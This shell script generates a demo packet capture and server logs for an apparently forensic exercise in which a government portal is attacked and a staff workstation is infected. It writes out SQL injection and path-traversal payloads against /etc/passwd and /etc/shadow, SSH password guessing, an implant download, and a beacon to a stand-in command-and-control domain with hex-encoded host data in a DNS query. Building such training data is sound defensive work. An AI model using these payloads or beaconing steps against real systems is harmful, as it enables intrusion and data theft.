#!/bin/sh
# Makes capture/demo.pcap: the story that README.md tells. Also keeps the
# portal's own logs of it (capture/demo.access.log, demo.auth.log), which
# image.sh lays into the demo's disk, and the digests of the files that went
# over the wire.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/content.sh"
. "$(dirname "$0")/servers.sh"
need ip ethtool tcpdump tshark dnsmasq dig nginx openssl curl ssh sshd smbd smbclient groff qrencode
PATH=$PATH:/usr/sbin

switch
host portal 192.0.2.10 2001:db8:2::10
host fail 192.0.2.20
host dns 192.0.2.53
host nurul 192.0.2.101 2001:db8:2::101
host orang 198.51.100.23
host jahat 198.51.100.66
host c2 198.51.100.80
portal_files
resolver dns
portal portal
ssh_server portal 22
attacker_server c2
file_server fail
sleep 3

browser='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36'
scanner='sqlmap/1.7.2#stable (https://sqlmap.org)'
web() { h=$1; shift; in_ns "$h" curl -sS -o /dev/null --max-time 10 "$@"; }

capture "$work/demo.pcap"

# 1. A citizen reads the portal and sends a form in the clear (09:00 of the story).
in_ns nurul dig +short A portal.agensi.example >/dev/null
in_ns nurul dig +short AAAA portal.agensi.example >/dev/null
in_ns nurul dig +short TXT agensi.example >/dev/null
in_ns nurul dig +tcp +short MX agensi.example >/dev/null
in_ns nurul dig +short A intranet-lama.agensi.example >/dev/null
in_ns nurul dig +noall TXT besar.agensi.example >/dev/null
web orang -A "$browser" --compressed http://portal.agensi.example/ -o /dev/null http://portal.agensi.example/berita
web orang -A "$browser" -o /dev/null http://portal.agensi.example/dokumen/pekeliling-4-2026.pdf -o /dev/null http://portal.agensi.example/imej/kod-qr.png -o /dev/null http://portal.agensi.example/berita
web orang -A "$browser" --data-urlencode 'nama=Ahmad bin Contoh' --data 'mykad=880215-14-5238&kad=4111111111111111&emel=ahmad@contoh.example' http://portal.agensi.example/permohonan
web nurul -6 -A "$browser" --compressed http://portal.agensi.example/syarat.html
in_ns nurul sh -c "printf 'GET / HTTP/1.1\r\nHost: portal.agensi.example\r\nConnection: close\r\n\r\n' | openssl s_client -quiet -tls1_3 -servername portal.agensi.example -connect portal.agensi.example:443" >/dev/null 2>&1

sleep 1
# 2. 198.51.100.66 scans the portal.
web jahat -A "$scanner" 'http://portal.agensi.example/berita?id=1%27%20AND%201=1--%20-'
web jahat -A "$scanner" 'http://portal.agensi.example/berita?id=1%20UNION%20ALL%20SELECT%20NULL,username,password%20FROM%20pengguna--%20-'
web jahat -A "$scanner" 'http://portal.agensi.example/muat-turun?fail=../../../../etc/passwd'
web jahat -A "$scanner" --path-as-is 'http://portal.agensi.example/imej/../../../../etc/shadow'
web jahat -A "$scanner" http://portal.agensi.example/.git/config -o /dev/null http://portal.agensi.example/phpmyadmin/

sleep 1
# 3. It guesses passwords of SSH, then of the administrator's page, and gets in.
for u in admin root operator; do ssh_guess jahat "$u" 192.0.2.10 22; done
web jahat -A "$scanner" http://portal.agensi.example/pentadbir/
web jahat -A "$scanner" -u admin:admin http://portal.agensi.example/pentadbir/
web jahat -A "$browser" -u portal-admin:Kata-Laluan-Contoh-1 http://portal.agensi.example/pentadbir/

sleep 1
# 4. Nurul logs in to the portal, as on every morning.
ssh_login nurul 192.0.2.10 22 'uptime' >/dev/null

# 5. Her workstation fetches the "invoice viewer" and calls home.
in_ns nurul dig +short A cdn.kemaskini-sistem.test >/dev/null
in_ns nurul curl -sS -A "$browser" -e 'http://mel.example/invois' -o "$work/download.bin" http://cdn.kemaskini-sistem.test/invoice-viewer.bin
in_ns nurul dig +short TXT 6e7572756c2d50432d30303120757365723d6e7572756c.x9k2.kemaskini-sistem.test >/dev/null
for i in 1 2 3; do
	in_ns nurul curl -sSk --tls-max 1.2 -o /dev/null "https://kemaskini-sistem.test/ping?n=$i"
	sleep 2
done

sleep 1
# 6. The implant is copied to the file server.
cp "$work/download.bin" "$work/invoice-viewer.bin"
in_ns nurul smbclient //192.0.2.20/awam -N -c "lcd $work; ls; put invoice-viewer.bin; get baca-saya.txt $work/baca-saya.txt" >/dev/null 2>&1

capture_end
cmp "$work/download.bin" "$work/c2/invoice-viewer.bin" || die "the download differs from what the server offers"
cmp "$work/share/invoice-viewer.bin" "$work/c2/invoice-viewer.bin" || die "the file server holds another file"

mkdir -p "$root/capture" "$root/truth"
install -m 644 "$work/demo.pcap" "$root/capture/demo.pcap"
install -m 644 "$work/portal.access.log" "$root/capture/demo.access.log"
install -m 644 "$work/sshd.auth.log" "$root/capture/demo.auth.log"
editcap -F pcapng "$work/demo.pcap" "$root/capture/demo.pcapng"
